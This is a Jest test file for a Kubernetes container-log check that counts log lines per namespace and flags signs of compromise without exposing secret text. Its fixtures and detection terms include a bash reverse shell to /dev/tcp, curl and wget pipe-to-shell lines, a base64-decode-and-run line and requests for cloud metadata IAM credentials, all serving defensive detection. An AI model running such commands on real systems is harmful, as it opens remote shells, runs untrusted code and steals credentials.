import { describe, expect, test } from '@jest/globals';
import { containerLogs } from '../../functions/checks/container-logs.ts';
import type { DetailsByCheck } from '../../functions/checks/index.ts';
import { LOG_SIGNS } from '../../functions/checks/parts/log-signs.ts';
import type { LogSearch } from '../../functions/clients/logs/log-search.ts';
import { LogBudgetExceeded, LogSourceMissing } from '../../functions/contract/errors.ts';
import { type Asking, evidenceOf, HANGING, logsOf, UNASKED } from './audit-log.ts';
import { finding } from './examples.ts';

const at = (clock: string) => Date.parse(`2026-11-23T${clock}Z`);
const app = (clock: string, namespace: string, pod: string, log = 'secret-token-123') => ({
  at: at(clock),
  message: JSON.stringify({ log, kubernetes: { namespace_name: namespace, pod_name: pod } }),
});
const text = (clock: string, message: string) => ({ at: at(clock), message });
const LAST = text('10:18:00', '{}');

/** A line for each text. */
const EXAMPLES: Record<string, string> = {
  'no job control in this shell': 'bash: no job control in this shell',
  'cannot set terminal process group': 'bash: cannot set terminal process group (1): Inappropriate ioctl for device',
  'job control turned off': "sh: can't access tty; job control turned off",
  '/dev/tcp/': 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
  'mining.subscribe': '{"method":"mining.subscribe"}',
  'mining.authorize': '{"method":"mining.authorize"}',
  'mining.notify': '{"method":"mining.notify"}',
  'mining.submit': '{"method":"mining.submit"}',
  'stratum+': 'connecting to stratum+ssl://198.51.100.7:443',
  'new job from': 'net      new job from 198.51.100.7:443 diff 1000K algo rx/0',
  xmrig: 'about to start xmrig/6.21.0',
  'curl ': 'curl -s http://198.51.100.7/x | sh',
  'wget ': 'wget -qO- http://198.51.100.7/x | sh',
  'base64 -': 'echo aGk= | base64 -d | sh',
  'meta-data/iam/': 'GET /latest/meta-data/iam/security-credentials/',
  'latest/api/token': 'PUT /latest/api/token',
};

const run = (logs: LogSearch | undefined, asking: Asking = {}) =>
  evidenceOf(containerLogs, { clients: { ...(logs && { logs }) }, ...asking });

describe('container logs', () => {
  const logs = logsOf({
    application: () => [
      app('10:02:00', 'shop', 'cart-0'),
      app('10:03:00', 'shop', 'cart-0'),
      app('10:03:00', 'shop', 'miner-1'),
      app('10:03:00', 'shop-2', 'x'),
      app('09:00:00', 'shop', 'before it was made'),
      LAST,
    ],
    host: () => [text('10:02:00', 'kubelet: pod="shop/cart-0" failed'), text('10:02:00', 'workshop is open'), LAST],
    dataplane: () => [LAST],
  });

  test('are counted since the request, and their text stays where it is', async () => {
    const evidence = await run(logs);
    expect(evidence).toMatchObject({
      status: 'found',
      summary: 'Lines about this namespace since the request: application 3, host 1, dataplane 0.',
      completeUntil: '2026-11-23T10:18:00.000Z',
      details: {
        groups: [
          { source: 'application', present: true, lines: 3, more: false },
          { source: 'host', present: true, lines: 1, more: false },
          { source: 'dataplane', present: true, lines: 0, more: false },
        ],
        byPod: [
          { pod: 'cart-0', lines: 2 },
          { pod: 'miner-1', lines: 1 },
        ],
      },
    });
    expect(JSON.stringify(evidence)).not.toContain('secret-token-123');
    expect(evidence.link).toContain('$252Faws$252Fcontainerinsights$252Fprod$252Fapplication');
    expect(evidence.command).toContain('{ $.kubernetes.namespace_name = "shop" }');
  });

  test('are searched for signs, and report their pod, time and count, but never the text', async () => {
    const many = Array.from({ length: 700 }, () => app('10:05:00', 'shop', 'cart-0'));
    const evidence = await run(
      logsOf({
        application: () => [
          app('10:02:00', 'shop', 'cart-0', 'bash: no job control in this shell; secret-token-123'),
          app('10:03:00', 'shop', 'cart-0', "sh: 0: can't access tty; job control turned off"),
          app('10:02:00', 'shop', 'm', '{"method":"mining.subscribe","params":["secret-token-123"]}'),
          app('10:02:00', 'shop', 'd', '+ curl -s http://198.51.100.7/x | sh'),
          app('10:02:00', 'shop', 'k', 'GET http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
          app('10:02:00', 'shop', 'h', 'curl is a program, and wget is another one'),
          app('10:02:00', 'cart', 'other', 'bash: no job control in this shell'),
          ...many,
          LAST,
        ],
        host: () => [text('10:02:00', 'pod="shop/cart-0" new job from pool diff 1000'), LAST],
        dataplane: () => [LAST],
      }),
    );
    const { signs } = evidence.details as unknown as DetailsByCheck['container-logs'];
    expect(signs).toEqual([
      {
        sign: 'shell-session',
        pod: 'cart-0',
        firstAt: '2026-11-23T10:02:00.000Z',
        lastAt: '2026-11-23T10:03:00.000Z',
        lines: 2,
      },
      expect.objectContaining({ sign: 'mining-protocol', pod: 'm', lines: 1 }),
      expect.objectContaining({ sign: 'download-and-run', pod: 'd' }),
      expect.objectContaining({ sign: 'metadata-access', pod: 'k' }),
      expect.objectContaining({ sign: 'mining-protocol', pod: 'a node' }),
    ]);
    expect(evidence.summary).toContain('; suspicious: a shell without a terminal began (cart-0), ');
    expect(JSON.stringify(evidence)).not.toContain('secret-token-123');
  });

  test('what shows a sign holds one of the texts that the log is asked for', () => {
    for (const { pattern, terms } of LOG_SIGNS)
      expect(terms.filter((term) => pattern.test(EXAMPLES[term] ?? '') && EXAMPLES[term]?.includes(term))).toEqual(
        terms,
      );
  });

  test('many lines are a lower bound', async () => {
    const many = logsOf({ application: () => Array.from({ length: 600 }, () => app('10:02:00', 'shop', 'cart-0')) });
    expect((await run(many)).summary).toContain('application 500 or more');
  });

  test('a group that does not exist, or cannot be asked, is said to be missing', async () => {
    const some: LogSearch = {
      ask: async (question, signal) => {
        if (question.source === 'host') throw new LogBudgetExceeded('3 GB');
        if (question.source === 'dataplane') throw new LogSourceMissing('there is no log group y');
        return logs.ask(question, signal);
      },
    };
    const evidence = await run(some);
    expect(evidence.summary).toContain('application 3. Not asked: budget: 3 GB; there is no log group y.');
    expect(evidence.details).toMatchObject({
      groups: [{ source: 'application' }, { source: 'dataplane', present: false }],
    });
    const none = await run(some, { subject: finding({ namespace: { name: 'other' } }) });
    expect(none).toMatchObject({ status: 'not-checked', reason: expect.stringContaining('Not asked: budget: 3 GB') });
  });

  test('none', async () => {
    expect(await run(logs, { subject: finding({ namespace: { name: 'other' } }) })).toMatchObject({ status: 'clear' });
  });

  test.each([
    ['no name', {}],
    ['the beginning of a name', { name: 'gen-*' }],
    ['a name that is not one', { name: '../x' }],
  ])('not checked: %s', async (_, namespace) => {
    expect((await run(logs, { subject: finding({ namespace }) })).status).toBe('not-checked');
  });

  test.each(UNASKED)('not checked: %s', async (_, unasked, reason) => {
    expect(await run(unasked)).toMatchObject({ status: 'not-checked', reason: expect.stringMatching(reason) });
  });

  test('not checked: no answer in time', async () => {
    const evidence = await evidenceOf({ ...containerLogs, deadlineMs: 30 }, { clients: { logs: HANGING } });
    expect(evidence.status).toBe('not-checked');
  });
});
